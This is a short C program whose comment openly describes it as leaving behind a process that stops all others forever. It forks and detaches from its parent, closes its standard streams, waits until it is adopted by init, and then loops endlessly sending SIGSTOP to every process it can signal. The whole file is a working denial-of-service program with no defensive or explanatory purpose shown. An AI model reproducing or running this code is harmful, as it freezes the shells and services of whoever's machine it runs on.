// Leaves a process behind that stops all others as fast as it can, for ever.
#include <signal.h>
#include <unistd.h>

int main(void) {
  if (fork() != 0) return 0;
  for (int fd = 0; fd < 3; ++fd) close(fd);
  while (getppid() != 1) {
  }
  for (;;) kill(-1, SIGSTOP);
}
